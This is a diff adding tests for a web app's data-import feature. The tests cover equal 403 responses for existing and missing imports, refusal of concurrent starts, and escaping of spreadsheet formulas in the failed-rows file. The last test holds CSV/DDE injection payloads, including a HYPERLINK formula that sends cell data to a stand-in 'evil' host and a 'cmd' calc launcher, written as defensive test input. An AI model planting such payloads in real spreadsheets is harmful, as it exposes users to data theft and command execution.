@@ -175,3 +175,67 @@ test('a user who may not create: one error per document in the log, the job fini
   const start = await callImportMethod(t, other, 'form_start_import', { data_import: name });
   expect(start.status).toBe(403);
 });
+
+test('a user without read on Data Import gets the same 403 for a name that exists and one that does not', async () => {
+  const name = await newImport(
+    t,
+    t.adminToken,
+    'ToDo',
+    await uploadFile(t, t.adminToken, 'description\nx\n', 'e.csv'),
+  );
+  const plain = await createUser(t, 'plain@import.test', []);
+  for (const method of ['get_preview_from_template', 'form_start_import']) {
+    const real = await callImportMethod(t, plain, method, { data_import: name });
+    const missing = await callImportMethod(t, plain, method, { data_import: 'no-such-import' });
+    expect([real.status, missing.status]).toEqual([403, 403]);
+    expect(real.body.exception).toBe(missing.body.exception);
+  }
+  for (const method of ['get_import_status', 'download_errored_template']) {
+    const real = await callImportMethod(t, plain, method, { data_import_name: name });
+    const missing = await callImportMethod(t, plain, method, { data_import_name: 'no-such-import' });
+    expect([real.status, missing.status]).toEqual([403, 403]);
+  }
+});
+
+test('concurrent starts of one import: one queues the job, the others are refused, nothing twice', async () => {
+  const csv = ['description', ...Array.from({ length: 300 }, (_, i) => `concurrent ${i}`)].join('\n');
+  const name = await newImport(t, t.adminToken, 'ToDo', await uploadFile(t, t.adminToken, csv, 'c.csv'));
+  const before = await todos();
+  const starts = await Promise.all(
+    [1, 2, 3].map(() => callImportMethod(t, t.adminToken, 'form_start_import', { data_import: name })),
+  );
+  expect(starts.map((r) => r.status).sort()).toEqual([200, 400, 400]);
+  for (const r of starts.filter((s) => s.status === 400))
+    expect(r.body.exception).toContain('This import is already running');
+  const started = starts.find((r) => r.status === 200)!;
+  await waitForJob(t, t.adminToken, started.body.data.job_id);
+  expect(await todos()).toBe(before + 300);
+  const record = await t.site.db.knex('tabData Import').where({ name }).first();
+  expect(record.job_id).toBe(started.body.data.job_id);
+  expect(record.status).toBe('Success');
+});
+
+test("the failed lines' file escapes the cells a spreadsheet would run; a DDE payload after a number fails", async () => {
+  const csv = [
+    'description,priority',
+    '"=HYPERLINK(""http://evil/""&A1,""click"")",Low',
+    '@SUM(1),Low',
+    '"-2+3+cmd|\' /C calc\'!A0",Low',
+    '+ 1+cmd,Low',
+    '"+49 30 1234",Low',
+  ].join('\n');
+  const { name, job } = await importFile(t, t.adminToken, 'ToDo', csv, 'dde.csv');
+  expect(job.result).toEqual({ total: 5, success_count: 1, failure_count: 4 });
+  const failed = await callImportMethod(t, t.adminToken, 'download_errored_template', {
+    data_import_name: name,
+  });
+  expect(failed.status).toBe(200);
+  expect(failed.text.replace(/^\ufeff/, '').split('\n')).toEqual([
+    'description,priority',
+    `"'=HYPERLINK(""http://evil/""&A1,""click"")",Low`,
+    "'@SUM(1),Low",
+    `'-2+3+cmd|' /C calc'!A0,Low`,
+    "'+ 1+cmd,Low",
+    '',
+  ]);
+});
